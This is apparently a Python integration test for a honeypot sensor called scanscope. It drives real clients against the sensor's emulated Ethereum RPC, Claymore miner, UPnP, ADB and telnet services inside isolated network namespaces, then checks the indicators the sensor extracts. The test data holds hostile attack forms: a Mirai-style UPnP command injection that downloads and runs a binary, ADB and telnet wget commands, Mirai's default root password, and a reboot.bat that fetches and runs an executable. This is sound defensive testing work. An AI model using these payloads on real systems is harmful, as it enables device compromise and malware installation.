#!/usr/bin/python3
"""The responder's emulated protocols (--emulate all) against real clients.

Two network namespaces this test makes, as the responder test does: SENSOR holds one end of a
veth pair, read and written by scanscope through net_af_packet; SCAN holds the other end,
198.18.0.1/24 and 2001:db8:1::1/64, with the darknet 198.19.0.0/24 and 2001:db8:ff::/48 routed
to the sensor's MAC. Nothing leaves the two namespaces.

What the clients do, and so what the sensor must report (the expected counts come from the
clients' own calls, test/data/jsonrpc-client.cjs and the lines below):

- ethers 6 (from npm, test/data/jsonrpc-client.cjs) against 8545 over IPv4: recon (single
  calls and a batch), three personal_unlockAccount guesses, one eth_sendTransaction to
  0xcdcd...cd, one eth_sendRawTransaction (signed by ethers, EIP-1559) to 0xefef...ef,
  personal_newAccount, miner_setEtherbase and miner_start. The script exits 0 only
  when ethers took every answer.
- curl over IPv6: eth_accounts and eth_blockNumber on one keep-alive connection.
- A client written segment by segment (tcp_client_edges.py) sends eth_blockNumber, takes its
  answer as lost and sends the request again a second later: the same answer must come back.
- nc: Claymore's miner_getstat1 and a miner_file command on 3333 that writes a reboot.bat
  downloading a program (its hash, size and URL are indicators).
- curl: Mirai's Realtek UPnP exploit on 52869, carrying a download URL.
- adb: connect to 5555, a shell command that downloads a script, a push of a small file.
- telnet: a login as root:xc3511 (Mirai's list), then a download at the shell prompt.

The report's steps per port, /metrics, the source store and the event log's indicators are
checked against those counts; what each client received is checked as the client saw it.

usage: test_emulation.py SCANSCOPE SOURCE_DIR
"""

import hashlib
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import urllib.request

from netns_link import (in_ns, mac_of, make_namespace, remove_namespace, route_darknet, run,
                        skip_status, wait_for)
from serve_helpers import cache_args

PID = os.getpid()
SENSOR, SCAN = f"ssemu-sensor-{PID}", f"ssemu-scan-{PID}"
SENSOR_IF, SCAN_IF = "emu0", "emu1"
SCANNER, SCANNER6 = "198.18.0.1", "2001:db8:1::1"
GATEWAY = "198.18.0.254"
DARKNET, DARKNET6 = "198.19.0.0/24", "2001:db8:ff::/48"
SENSOR_HTTP = 9478  # in the sensor's own namespace
NODE_DIR = os.environ.get("SCANSCOPE_NODE_DIR", "/opt/ssnode")
VICTIM = "0x407d73d8a49eeb85d32cf465507dd71d507100c1"
THIEF = "0x" + "cd" * 20
RAW_THIEF = "0x" + "ef" * 20  # the recipient of jsonrpc-client.cjs's signed transaction
LOST_SOURCE = "198.18.0.99"  # the client that loses an answer, written segment by segment
DOWNLOAD = "http://192.0.2.66/bins/mirai.mips"
ADB_SHELL = "cd /data/local/tmp; wget http://192.0.2.66/x.sh"
PUSHED = b"#!/bin/sh\necho mined\n"
TELNET_LOGIN = ("root", "xc3511")
TELNET_COMMAND = "cd /tmp; wget http://192.0.2.66/t.sh"
# What Claymore's remote manager is told to write (miner_file): it runs at the miner's restart.
REBOOT_BAT = b"powershell -c \"iwr http://192.0.2.66/m.exe -OutFile m.exe\"\r\nm.exe\r\n"
TOOLS = ["curl", "nc", "node", "adb", "telnet"]


def setup():
    if not make_namespace(SENSOR):
        return False
    run("ip", "netns", "add", SCAN)
    for ns in (SENSOR, SCAN):
        in_ns(ns, "ip", "link", "set", "lo", "up")
    run("ip", "link", "add", SENSOR_IF, "netns", SENSOR, "type", "veth", "peer", "name", SCAN_IF,
        "netns", SCAN)
    in_ns(SENSOR, "sysctl", "-qw", f"net.ipv6.conf.{SENSOR_IF}.disable_ipv6=1")
    in_ns(SENSOR, "ip", "link", "set", SENSOR_IF, "up")
    in_ns(SCAN, "ip", "link", "set", SCAN_IF, "up")
    route_darknet(SCAN, SCAN_IF, mac_of(SENSOR, SENSOR_IF), SCANNER, DARKNET, SCANNER6,
                  DARKNET6, GATEWAY)
    return True


def start_sensor(scanscope, source_dir, tmp):
    paths = {k: os.path.join(tmp, k) for k in ("report.json", "events.json", "sources.db",
                                                 "sensor.log")}
    args = ["ip", "netns", "exec", SENSOR, scanscope, "-l", "0-1", "--no-huge", "-m", "512",
            "--no-pci", f"--file-prefix=ssemu-{PID}",
            "--vdev", f"net_af_packet0,iface={SENSOR_IF}", "--",
            "--config", os.path.join(source_dir, "config", "scanscope.conf"), *cache_args(),
            "--geo-db", "none", "--duration", "120", "--http", f"127.0.0.1:{SENSOR_HTTP}",
            "--signatures", os.path.join(source_dir, "config", "signatures.rules"),
            "--mbufs", "8192", "--json-out", paths["report.json"], "--status-interval", "1",
            "--monitored", f"{DARKNET},{DARKNET6}", "--respond",
            "--respond-allow", "198.18.0.0/15,2001:db8:1::/64", "--emulate", "all",
            "--events", paths["events.json"], "--source-store", paths["sources.db"]]
    proc = subprocess.Popen(args, stdout=subprocess.DEVNULL,
                            stderr=open(paths["sensor.log"], "w"))
    if not wait_for(paths["sensor.log"], "pps", 30):
        raise RuntimeError("scanscope did not start polling: " + open(paths["sensor.log"]).read())
    return proc, paths


def stop_sensor(proc, paths):
    time.sleep(1)  # the last answers
    proc.send_signal(signal.SIGINT)
    rc = proc.wait(timeout=60)
    if rc not in (0, 130):
        raise RuntimeError(f"scanscope exited {rc}: " + open(paths["sensor.log"]).read())
    with open(paths["report.json"]) as f:
        return json.load(f)


def adb_client(tmp):
    """adb connect, a shell command and a push; what adb printed for each."""
    env = dict(os.environ, HOME=tmp)
    target = "198.19.0.12:5555"
    pushed = os.path.join(tmp, "x.sh")
    with open(pushed, "wb") as f:
        f.write(PUSHED)
    out = []
    for args in (["connect", target], ["-s", target, "shell", ADB_SHELL],
                 ["-s", target, "push", pushed, "/data/local/tmp/"]):
        r = in_ns(SCAN, "timeout", "20", "adb", *args, check=False, capture_output=True,
                  text=True, env=env, timeout=30)
        out.append((r.returncode, (r.stdout + r.stderr).strip()))
    in_ns(SCAN, "timeout", "10", "adb", "kill-server", check=False, capture_output=True, env=env,
          timeout=20)
    return out


def telnet_client():
    """A login and one command, typed at the prompts' pace; what telnet printed."""
    user, password = TELNET_LOGIN
    script = (f"sleep 1; echo {user}; sleep 0.5; echo {password}; sleep 0.5; "
              f"echo '{TELNET_COMMAND}'; sleep 0.5; echo exit; sleep 0.5")
    r = in_ns(SCAN, "sh", "-c", f"({script}) | timeout 15 telnet 198.19.0.14 23", check=False,
              capture_output=True, text=True, timeout=30)
    return r.stdout + r.stderr


def lost_answer_client():
    """A client whose answer was lost sends its request again (tcp_client_edges.py, from
    LOST_SOURCE, which no interface holds); what it received both times."""
    r = in_ns(SCAN, sys.executable, os.path.join(os.path.dirname(__file__), "tcp_client_edges.py"),
              SCAN_IF, mac_of(SCAN, SCAN_IF), mac_of(SENSOR, SENSOR_IF), LOST_SOURCE,
              "198.19.0.15", "8545", "lost-answer", check=False, capture_output=True, text=True,
              timeout=60)
    try:
        return json.loads(r.stdout)
    except ValueError:
        return {"error": r.stdout + r.stderr[-500:]}


def clients(source_dir, tmp):
    """Each client once; what each of them received."""
    got = {"adb": adb_client(tmp), "telnet": telnet_client(), "lost": lost_answer_client()}
    client = os.path.join(source_dir, "test", "data", "jsonrpc-client.cjs")
    env = dict(os.environ, NODE_PATH=os.path.join(NODE_DIR, "node_modules"))
    r = in_ns(SCAN, "timeout", "60", "node", client, "http://198.19.0.10:8545", check=False,
              capture_output=True, text=True, env=env, timeout=90)
    got["ethers"] = (r.returncode, (r.stdout + r.stderr)[-800:])
    # Two calls on one connection: curl reuses it for the URL after --next.
    call = '{"jsonrpc":"2.0","method":"%s","params":[],"id":%d}'
    r = in_ns(SCAN, "curl", "-6", "-g", "-sS", "-v", "-m", "5", "-H",
              "Content-Type: application/json", "--data", call % ("eth_accounts", 1),
              "http://[2001:db8:ff::10]:8545/", "--next", "-m", "5", "-H",
              "Content-Type: application/json", "--data", call % ("eth_blockNumber", 2),
              "http://[2001:db8:ff::10]:8545/", check=False, capture_output=True, text=True,
              timeout=20)
    got["curl6"] = (r.returncode, r.stdout, r.stderr)
    lines = ('{"id":0,"jsonrpc":"2.0","method":"miner_getstat1"}\n'
             '{"id":0,"jsonrpc":"2.0","method":"miner_file","params":["reboot.bat","%s"]}\n'
             % REBOOT_BAT.hex())
    r = in_ns(SCAN, "nc", "-w", "2", "198.19.0.11", "3333", check=False, capture_output=True,
              input=lines, text=True, timeout=20)
    got["nc"] = (r.returncode, r.stdout)
    body = ('<?xml version="1.0"?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>'
            f'`cd /var; wget {DOWNLOAD} -O m; chmod 777 m; ./m`</NewInternalClient>'
            '</u:AddPortMapping></s:Body></s:Envelope>')
    r = in_ns(SCAN, "curl", "-sS", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", "-X",
              "POST", "--data", body, "http://198.19.0.13:52869/picsdesc.xml", check=False,
              capture_output=True, text=True, timeout=20)
    got["upnp"] = (r.returncode, r.stdout)
    return got


def check_clients(got, failures):
    code, out = got["ethers"]
    if code != 0:
        failures.append(f"ethers did not finish its calls against the emulated node: {out}")
    code, out, err = got["curl6"]
    answers = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    if code != 0 or len(answers) != 2 or len(answers[0].get("result", [])) != 2 or \
            not answers[1].get("result", "").startswith("0x"):
        failures.append(f"curl over IPv6: exit {code}, answers {answers}, {err[-400:]}")
    elif "Re-using existing connection" not in err:
        failures.append(f"curl over IPv6 opened a second connection: {err[-400:]}")
    code, out = got["nc"]
    answers = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    if len(answers) != 2 or len(answers[0].get("result") or []) != 9 or \
            answers[1].get("result") is not True:
        failures.append(f"nc on 3333 received {out!r}")
    code, out = got["upnp"]
    if code != 0 or out != "200":
        failures.append(f"the UPnP exploit got {out!r} (curl exit {code}), not 200")
    (c_code, c_out), (s_code, s_out), (p_code, p_out) = got["adb"]
    if c_code != 0 or "connected to" not in c_out or s_code != 0 or p_code != 0 or \
            "1 file pushed" not in p_out:
        failures.append(f"adb: {got['adb']}")
    out = got["telnet"]
    if "login: " not in out or "Password: " not in out or "BusyBox" not in out:
        failures.append(f"telnet saw {out[-600:]!r}")
    # The request sent again a second later gets the very answer (its Date and block number
    # too) at the very sequence number: a client that lost it goes on.
    lost = got["lost"]
    first, again = lost.get("answer") or {}, lost.get("again") or {}
    if not first.get("data", "").startswith("HTTP/1.1 200 OK") or \
            (again.get("seq"), again.get("data")) != (first.get("seq"), first.get("data")):
        failures.append(f"an answer the client lost was not sent again as it was: {lost}")


# The steps each client's calls reach, by port: (segments, sources). jsonrpc-client.cjs makes
# five recon calls and a batch of three (one request), three unlocks, two sends (one signed by
# the client) and three miner calls, each its own request; curl over IPv6 two recon calls; the
# client that loses its answer one (sent twice, taken once).
EXPECTED_STEPS = {
    (8545, "eth_recon"): (6 + 2 + 1, 3),
    (8545, "eth_unlock"): (3, 1),
    (8545, "eth_send"): (2, 1),
    (8545, "eth_miner"): (3, 1),
    (3333, "miner_status"): (1, 1),
    (3333, "miner_control"): (1, 1),
    (52869, "http_request"): (1, 1),
    (5555, "adb_connect"): (1, 1),
    (5555, "adb_shell"): (1, 1),
    (5555, "adb_push"): (1, 1),
    (23, "telnet_login"): (1, 1),
    (23, "telnet_shell"): (1, 1),
    (23, "telnet_download"): (1, 1),
}


def check_report(report, failures):
    steps = {(p["port"], s["step"]): (s["packets"], s["sources"])
             for p in report["conversation"]["ports"] for s in p.get("steps", [])}
    if steps != EXPECTED_STEPS:
        failures.append(f"steps in the report: {steps}, the clients made {EXPECTED_STEPS}")
    else:
        print(f"steps: {sorted(steps.items())}")
    counters = report["conversation"]["counters"]
    # Every connection that completed its handshake went on talking; the requests answered
    # are at least the clients' calls: ethers 14 (five, a batch, three, two, three), curl 2,
    # nc 2, the exploit 1, telnet 3 lines, adb CNXN and two OPENs (its writes come on top), the
    # lost answer's call 1; that answer was sent again once.
    if counters["emulation_conversations"] != counters["responder_handshakes"] or \
            counters["emulation_requests"] < 14 + 2 + 2 + 1 + 3 + 3 + 1 or \
            counters["emulation_answers_resent"] != 1:
        failures.append(f"emulation counters: {counters}")
    for bad in ("emulation_malformed_http", "emulation_malformed_json", "emulation_too_large",
                "emulation_table_full", "emulation_source_cap", "responder_unknown_acks"):
        if counters[bad] != 0:
            failures.append(f"{bad} = {counters[bad]}: {counters}")


def check_narrative(source_dir, report_path, failures):
    """print-report.py's line for 8545, as an analyst reads it."""
    r = run(sys.executable, os.path.join(source_dir, "scripts", "print-report.py"), report_path,
            capture_output=True, text=True)
    want = ("8545/tcp emulated: 3 sources asked the node about itself or its accounts, "
            "1 tried to unlock an account, 1 sent a transaction to 2 addresses, "
            "1 redirected its mining")
    if want not in r.stdout:
        failures.append(f"print-report.py does not say {want!r}: {r.stdout[-800:]}")


def api(query):
    r = in_ns(SENSOR, "curl", "-s", "-m", "5", "-w", "\n%{http_code}",
              f"http://127.0.0.1:{SENSOR_HTTP}/api/v1/{query}", check=False,
              capture_output=True, text=True, timeout=20)
    body, _, code = r.stdout.rpartition("\n")
    return int(code or 0), body


def check_api(failures):
    """An analyst asks for the addresses transactions went to, and for the file hashes."""
    code, body = api("indicators?kind=eth_recipient")
    got = json.loads(body)["indicators"] if code == 200 else body
    if code != 200 or sorted((i["value"], i["port"], i["count"], i["sources"], i["first_source"])
                             for i in got) != [(THIEF, 8545, 1, 1, SCANNER),
                                               (RAW_THIEF, 8545, 1, 1, SCANNER)]:
        failures.append(f"/api/v1/indicators?kind=eth_recipient: {code} {got}")
    code, body = api("indicators?kind=file_sha256&port=5555&since=2020-01-01T00:00:00Z")
    digest = hashlib.sha256(PUSHED).hexdigest()
    if code != 200 or [i["value"] for i in json.loads(body)["indicators"]] != [digest]:
        failures.append(f"/api/v1/indicators?kind=file_sha256: {code} {body[:300]}")
    code, body = api("indicators?since=2099-01-01T00:00:00Z")
    if code != 200 or json.loads(body)["indicators"] != []:
        failures.append(f"/api/v1/indicators?since=2099: {code} {body[:300]}")
    # An analyst asks about the scanner: what it gave away is on its page, from the open bucket.
    code, body = api(f"sources/{SCANNER}")
    given = {(i["port"], i["value"]) for i in json.loads(body).get("indicators", [])} \
        if code == 200 else body
    if code != 200 or not {(8545, f"eth_recipient {THIEF}"), (23, "credential root:xc3511"),
                           (5555, f"file_sha256 {digest}")} <= given:
        failures.append(f"/api/v1/sources/{SCANNER}: {code} indicators {given}")
    for bad in ("indicators?kind=wallet", "indicators?port=0", "indicators?since=yesterday"):
        code, body = api(bad)
        if code != 400:
            failures.append(f"/api/v1/{bad}: {code}, not 400")


def check_metrics(metrics, failures):
    want = 'scanscope_conversation_step_sources{port="8545",...,step="eth_send"} 1'
    samples = [line for line in metrics.splitlines() if "step=\"eth_send\"" in line]
    if not any(line.startswith("scanscope_conversation_step_sources") and line.endswith(" 1")
               for line in samples):
        failures.append(f"/metrics lacks {want}: {samples}")
    # Two recipient addresses, one etherbase, one pushed file: distinct values by kind.
    # Two files: the ADB push and Claymore's reboot.bat.
    for kind, n in (("eth_recipient", 2), ("eth_etherbase", 1), ("file_sha256", 2),
                    ("credential", 1)):
        if f'scanscope_indicator_values{{kind="{kind}"}} {n}' not in metrics:
            failures.append(f"/metrics: no indicator_values of {kind} at {n}")


def check_report_indicators(report, failures):
    """The report's indicators: each the clients gave, with its count and sources."""
    got = {(i["kind"], i["port"], i["value"]): (i["count"], i["sources"])
           for i in report["conversation"]["indicators"]}
    want = {("eth_recipient", 8545, THIEF): (1, 1), ("eth_recipient", 8545, RAW_THIEF): (1, 1),
            ("eth_etherbase", 8545, THIEF): (1, 1),
            ("eth_sender", 8545, VICTIM): (1, 1), ("eth_passphrase", 8545, ""): (3, 1),
            ("url", 52869, DOWNLOAD): (1, 1),
            ("file_sha256", 5555, hashlib.sha256(PUSHED).hexdigest()): (1, 1),
            ("credential", 23, ":".join(TELNET_LOGIN)): (1, 1)}
    wrong = {k: (got.get(k), v) for k, v in want.items() if got.get(k) != v}
    if wrong:
        failures.append(f"report indicators (got, want): {wrong}")


def check_events(path, failures):
    indicators = []
    with open(path) as f:
        for line in f:
            event = json.loads(line)
            if event["event_type"] == "indicator":
                indicators.append((event["src_ip"], event["dest_port"],
                                   event["indicator"]["kind"], event["indicator"]["value"]))
    digest = hashlib.sha256(PUSHED).hexdigest()
    want = {(SCANNER, 5555, "shell_command", ADB_SHELL),
            (SCANNER, 5555, "url", "http://192.0.2.66/x.sh"),
            (SCANNER, 5555, "file_sha256", digest),
            (SCANNER, 5555, "file_name", f"/data/local/tmp/x.sh {len(PUSHED)} bytes"),
            (SCANNER, 23, "credential", ":".join(TELNET_LOGIN)),
            (SCANNER, 23, "shell_command", TELNET_COMMAND),
            (SCANNER, 23, "url", "http://192.0.2.66/t.sh")}
    want |= {(SCANNER, 8545, "eth_recipient", THIEF), (SCANNER, 8545, "eth_sender", VICTIM),
             (SCANNER, 8545, "eth_recipient", RAW_THIEF),
            (SCANNER, 8545, "eth_etherbase", THIEF), (SCANNER, 3333, "miner_command",
                                                       "miner_file reboot.bat"),
            (SCANNER, 3333, "file_sha256", hashlib.sha256(REBOOT_BAT).hexdigest()),
            (SCANNER, 3333, "file_name", f"reboot.bat {len(REBOOT_BAT)} bytes"),
            (SCANNER, 3333, "url", "http://192.0.2.66/m.exe"),
            (SCANNER, 52869, "url", DOWNLOAD)}
    if not want <= set(indicators):
        failures.append(f"event log indicators lack {sorted(want - set(indicators))}: "
                        f"{indicators}")
    passphrases = [i for i in indicators if i[2] == "eth_passphrase"]
    # Three guesses, their text withheld (no --emulate-keep-secrets).
    if len(passphrases) != 3 or any(i[3] for i in passphrases):
        failures.append(f"passphrase indicators: {passphrases}")
    if not failures:
        print(f"event log: {len(indicators)} indicators")


def check_store(path, failures):
    with sqlite3.connect(path) as db:
        seen = set(db.execute("SELECT address, kind, port, value FROM activity "
                              "WHERE kind IN ('conversation', 'indicator')"))
    want = {(SCANNER, "conversation", 8545, s) for s in ("eth_recon", "eth_unlock", "eth_send")}
    want |= {(SCANNER6, "conversation", 8545, "eth_recon")}
    # What the scanner gave away, each under its kind; the passphrases without their text.
    want |= {(SCANNER, "indicator", 8545, f"eth_recipient {THIEF}"),
             (SCANNER, "indicator", 8545, "eth_passphrase"),
             (SCANNER, "indicator", 52869, f"url {DOWNLOAD}"),
             (SCANNER, "indicator", 23, "credential " + ":".join(TELNET_LOGIN))}
    if not want <= seen:
        failures.append(f"source store lacks {sorted(want - seen)}: {sorted(seen)}")


def main():
    scanscope, source_dir = sys.argv[1:3]
    missing = [t for t in TOOLS if shutil.which(t) is None]
    if not os.path.exists(os.path.join(NODE_DIR, "node_modules", "ethers")):
        missing.append(f"ethers in {NODE_DIR}")
    if missing:
        print(f"FAIL: tools missing (scripts/install-deps.sh installs them): {missing}")
        return 1
    failures = []
    with tempfile.TemporaryDirectory() as tmp:
        try:
            if not setup():
                return skip_status()
            proc, paths = start_sensor(scanscope, source_dir, tmp)
            got = clients(source_dir, tmp)
            time.sleep(1.5)  # the stats loop's next pass publishes what the clients did
            r = in_ns(SENSOR, "curl", "-s", "-m", "5", f"http://127.0.0.1:{SENSOR_HTTP}/metrics",
                      check=False, capture_output=True, text=True, timeout=20)
            check_api(failures)
            report = stop_sensor(proc, paths)
            check_clients(got, failures)
            check_report(report, failures)
            check_report_indicators(report, failures)
            check_narrative(source_dir, paths["report.json"], failures)
            check_metrics(r.stdout, failures)
            check_events(paths["events.json"], failures)
            check_store(paths["sources.db"], failures)
        except Exception as e:  # noqa: BLE001 - report, then clean up
            failures.append(f"{type(e).__name__}: {e}")
        finally:
            for ns in (SENSOR, SCAN):
                remove_namespace(ns)
    for f in failures:
        print("FAIL:", f)
    if not failures:
        print("OK: ethers, curl, nc and an exploit talked to the emulated protocols")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
